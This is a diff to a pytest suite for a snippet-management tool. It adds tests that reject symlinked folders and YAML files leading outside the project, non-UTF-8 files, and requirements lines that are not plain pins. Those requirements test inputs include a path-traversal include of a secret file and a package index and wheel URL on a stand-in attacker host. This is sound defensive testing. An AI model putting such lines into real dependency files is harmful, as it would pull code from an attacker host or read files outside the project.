@@ -277,13 +277,21 @@ def _point_hello_at(tiny: Path, tmp_path: Path, case: str) -> tuple[str, Path]:
         link = tiny / SNIPPETS / "hello" / "link.py"
         link.symlink_to(os.path.relpath(target, link.parent))
         return "hello/link.py", target
+    if case == "folder-symlink":  # the task's folder itself leads elsewhere
+        target = tmp_path / "elsewhere" / "snippet_alpha.py"
+        target.parent.mkdir(parents=True)
+        folder = tiny / SNIPPETS / "hello"
+        (folder / "snippet_alpha.py").unlink()
+        folder.rmdir()
+        folder.symlink_to(target.parent)
+        return "hello/snippet_alpha.py", target
     if case == "not-py":
         target = tiny / SNIPPETS / "hello" / "notes.txt"
         return "hello/notes.txt", target
     raise AssertionError(case)
 
 
-@pytest.mark.parametrize("case", ["dotdot", "absolute", "symlink", "not-py"])
+@pytest.mark.parametrize("case", ["dotdot", "absolute", "symlink", "folder-symlink", "not-py"])
 def test_snippet_file_outside_its_task_folder_is_refused(tiny, tmp_path, monkeypatch, case):
     marker = tmp_path / "ran-the-secret"
     file, target = _point_hello_at(tiny, tmp_path, case)
@@ -303,7 +311,7 @@ def test_snippet_file_outside_its_task_folder_is_refused(tiny, tmp_path, monkeyp
     assert "SECRET-CONTENT" not in snippets_page(tiny)
 
     # the runner never runs (nor reads) it: pointed at this interpreter instead of the heavy env
-    monkeypatch.setattr(run.snippet_env, "ensure", lambda **kw: Path(sys.executable))
+    monkeypatch.setattr(run.snippet_env, "ensure", lambda *a, **kw: Path(sys.executable))
     before = (tiny / SNIPPETS / "results.yaml").read_bytes()
     assert run.main(["--root", str(tiny), "--record"]) == 1
     assert not marker.exists()
@@ -320,6 +328,40 @@ def test_snippet_file_larger_than_the_bound_is_refused_and_not_shown(tiny):
         [f"{SNIPPETS}/hello.yaml:7:11: snippet.path: "[:40]]
     md = snippets_page(tiny)
     assert "SECRET-CONTENT" not in md and "not shown" in md
+
+
+def test_snippet_file_that_is_not_utf8_is_reported(tiny):
+    edit(tiny, f"{SNIPPETS}/hello/snippet_alpha.py", raw=b"x = '\xff'\n")
+    _, problems = check_project(tiny, TODAY)
+    assert [p.text() for p in problems if p.rule == "snippet.path"] == [
+        f"{SNIPPETS}/hello.yaml:7:11: snippet.path: hello/snippet_alpha.py is not UTF-8 text (save the file as UTF-8)"]
+    assert "not shown" in snippets_page(tiny)
+
+
+def test_snippet_yaml_symlinked_from_outside_is_not_read(tiny, tmp_path):
+    outside = tmp_path / "outside.yaml"
+    outside.write_text("id: evil\ntitle: SECRET-CONTENT\nquestion: q\nsnippets:\n  - framework: alpha\n    none: n\n")
+    (tiny / SNIPPETS / "evil.yaml").symlink_to(outside)
+    _, problems = check_project(tiny, TODAY)
+    assert [p.text() for p in problems if p.file.endswith("evil.yaml")] == [
+        f"{SNIPPETS}/evil.yaml:0:0: snippet.data: yaml.read: the file leads outside data/snippets/ "
+        "(replace the symlink with the file itself)"]
+    assert "SECRET-CONTENT" not in snippets_page(tiny)
+
+
+@pytest.mark.parametrize("line", ["-r ../../../secret.txt", "--index-url http://evil.example/simple",
+                                  "-e ../elsewhere", "https://evil.example/alpha-2.0.0.whl", "alpha==2.0.0 --pre"])
+def test_requirements_hold_only_pins(tiny, tmp_path, monkeypatch, line):
+    """pip reads options, other files and URLs from a requirements file: the snippet env installs pins only."""
+    edit(tiny, f"{SNIPPETS}/requirements.txt", replace=["alpha==2.0.0", f"alpha==2.0.0\n{line}"])
+    _, problems = check_project(tiny, TODAY)
+    [p] = [p for p in problems if p.rule == "snippet.data"]
+    assert p.text().startswith(f"{SNIPPETS}/requirements.txt:3:1: snippet.data: ") and "not a pin" in p.message
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
+    from fwatlas.snippets import env as snippet_env
+    with pytest.raises(SystemExit, match="not a pin"):
+        snippet_env.ensure(tiny / SNIPPETS / "requirements.txt", log=lambda m: None)
+    assert not (tmp_path / "cache").exists()  # nothing was created, nothing installed
 
 
 # --- 3. broken snippet YAML is a problem at its line, never a crashed rule -------------------
@@ -421,7 +463,7 @@ def test_snippet_run_in_a_clean_clone_leaves_git_status_empty(tmp_path, monkeypa
         return _noisy(recorded[unit])
 
     monkeypatch.setattr(run, "run_unit", fake_run_unit)
-    monkeypatch.setattr(run.snippet_env, "ensure", lambda **kw: Path(sys.executable))  # no heavy env
+    monkeypatch.setattr(run.snippet_env, "ensure", lambda *a, **kw: Path(sys.executable))  # no heavy env
     assert run.main(["--root", str(clone)]) == 0
     assert sorted(calls) == sorted(recorded)
     assert _git(clone, "status", "--porcelain") == ""
